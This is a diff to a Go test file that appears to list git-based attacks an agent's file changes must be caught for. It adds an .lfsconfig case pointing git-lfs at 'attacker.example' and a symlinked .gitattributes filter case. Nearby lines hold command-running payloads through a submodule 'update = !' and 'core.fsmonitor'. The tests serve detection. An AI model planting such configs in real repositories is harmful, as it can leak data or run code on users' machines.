@@ -90,6 +90,7 @@ func Attacks() []Case {
 		{Name: "new submodule gitlink", Agent: []File{{Path: "vendor/lib", Mode: Gitlink}}, Want: []string{nested}, Armed: gitSees("ls-files", "-s", "--", "vendor/lib")},
 		{Name: ".gitmodules with update = !command", Agent: []File{file(".gitmodules", "[submodule \"s\"]\n\tpath = s\n\turl = ./s\n\tupdate = !touch /tmp/pwned\n")}, Want: []string{modules}},
 		{Name: "submodule moved to another commit", Base: []File{{Path: "lib", Mode: Gitlink}}, Agent: []File{{Path: "lib", Mode: Gitlink, Content: strings.Repeat("ab", 20)}}, Want: []string{nested}},
+		{Name: ".lfsconfig pointing git-lfs elsewhere", Agent: []File{file(".lfsconfig", "[lfs]\n\turl = https://attacker.example/lfs\n")}, Want: []string{"lfsconfig"}},
 		{Name: "bare repository files", Agent: []File{file("r.git/HEAD", "ref: refs/heads/main\n"), file("r.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")}, Want: []string{nested}},
 	}
 	cs = append(cs, attributeAttacks()...)
@@ -127,6 +128,7 @@ func attributeAttacks() []Case {
 		attrs("merge=union hides conflicts", ".gitattributes", "CHANGELOG merge=union\n", content, "CHANGELOG", "merge"),
 		attrs("-diff hides content", ".gitattributes", "*.go -diff\n", hidden, "a.go", "diff"),
 		attrs("binary macro hides content", ".gitattributes", "*.go binary\n", hidden, "a.go", "diff"),
+		{Name: ".gitattributes as a link whose target is an attribute line", Agent: []File{link(".gitattributes", "* filter=x")}, Want: []string{driver}, Armed: gitSees("check-attr", "--cached", "filter", "--", "a.go")},
 		attrs(".GitAttributes (read on macOS and Windows)", ".GitAttributes", "* filter=x\n", driver, "", ""),
 		attrs("NTFS short name of .gitattributes", "GITATT~1", "* filter=x\n", driver, "", ""),
 	}
